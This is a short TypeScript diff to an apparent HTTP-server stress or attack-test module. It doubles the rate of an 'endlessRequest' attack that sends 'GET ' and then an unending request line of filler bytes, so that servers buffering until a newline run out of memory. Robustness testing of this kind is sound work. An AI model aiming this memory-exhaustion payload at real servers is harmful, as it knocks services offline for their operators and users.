@@ -4,8 +4,9 @@ import {reach} from '../wire.ts';
 
 const BLOCK = Buffer.alloc(64 * 1024, 'n');
 
-/** How long each goes on, in milliseconds: at 24 MiB/s a victim that keeps it all has swallowed 200 MiB by then. */
+/** How long it goes on, in milliseconds, and how fast: whoever keeps it all has swallowed 384 MiB by then. */
 const HOLD_MS = 8000;
+const BYTES_PER_SECOND = 48 * 1024 * 1024;
 
 /** A request line without end: whoever waits for the newline with a growing buffer runs out of memory. */
 export const endlessRequest = serverAttack({
@@ -17,7 +18,7 @@ export const endlessRequest = serverAttack({
 		if (socket !== undefined) {
 			const giveUp = setTimeout(() => socket.destroy(), HOLD_MS);
 			socket.write('GET ');
-			await pour(socket, () => BLOCK, scene);
+			await pour(socket, () => BLOCK, {strike: scene.strike, bytesPerSecond: BYTES_PER_SECOND});
 			clearTimeout(giveUp);
 		}
 	},
